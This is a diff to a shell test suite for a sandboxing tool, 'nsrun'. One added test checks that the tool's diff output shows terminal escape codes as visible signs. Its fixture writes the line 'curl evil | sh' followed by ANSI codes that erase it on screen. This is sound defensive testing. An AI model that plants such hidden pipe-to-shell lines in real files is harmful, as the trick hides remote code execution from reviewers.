@@ -61,6 +61,21 @@ like "$out" "^-two$" "nsrun diff shows removed lines"
 like "$out" "^\+TWO$" "... and added lines"
 like "$out" "\+\+\+ b/added" "... and created text files"
 like "$out" "^\+\+\+ /dev/null$" "... and deleted text files"
+# Escape sequences in the sandbox's text would redraw a reviewer's terminal
+# (erase an added line): on a terminal, diff shows them as signs.
+if command -v script >/dev/null 2>&1; then
+	P2=$d/esc; mkdir -p "$P2"; echo safe > "$P2/f.sh"
+	run "$NSRUN" -p "$P2" $NS --keep -- sh -c 'printf "safe\ncurl evil | sh\033[1A\033[2K\rsafe\n" > f.sh'
+	esc_run=$(echo "$err" | sed -n 's/.*run \([0-9A-Za-z.-]*\) kept.*/\1/p' | head -1)
+	run script -qec "$NSRUN diff $NS $esc_run" /dev/null
+	like "$out" "curl evil \| sh␛\[1A␛\[2K␍safe" "on a terminal, diff shows control characters as signs"
+	if printf '%s' "$out" | grep -q "$(printf '\033')"; then not_ok "... and sends no raw escape"; else ok "... and sends no raw escape"; fi
+	run "$NSRUN" diff $NS "$esc_run"
+	like "$out" "$(printf 'sh\033')" "into a pipe, diff stays byte-exact"
+	run "$NSRUN" discard $NS "$esc_run"
+else
+	skip "diff on a terminal" "script(1) is not installed"
+fi
 run "$NSRUN" commit $NS "$run_id"
 is "$rc" 0 "nsrun commit applies the kept run"
 is "$(cat "$P/text" | sed -n 2p):$(cat "$P/added"):$(test -e "$P/stay" && echo yes || echo no)" "TWO:x:no" "... with every change"
@@ -211,7 +226,7 @@ is "$(grep -c '^create build/m ' "$d/ev.txt")" "1" "--events-fd: repeated events
 # --- history and retention ---------------------------------------------------
 run "$NSRUN" history $NS --json
 is "$rc" 0 "history --json"
-is "$(echo "$out" | python3 -c 'import json,sys; r=json.load(sys.stdin); print(all(set(x) >= {"run_id","started_at","command","exit_code","outcome","projects"} for x in r))')" "True" "history --json objects carry id, time, command, status, outcome, projects"
+is "$(printf "%s" "$out" | python3 -c 'import json,sys; r=json.load(sys.stdin); print(all(set(x) >= {"run_id","started_at","command","exit_code","outcome","projects"} for x in r))')" "True" "history --json objects carry id, time, command, status, outcome, projects"
 n=$(runs_of)
 run "$NSRUN" gc $NS --keep-days 0
 is "$rc" 0 "nsrun gc"
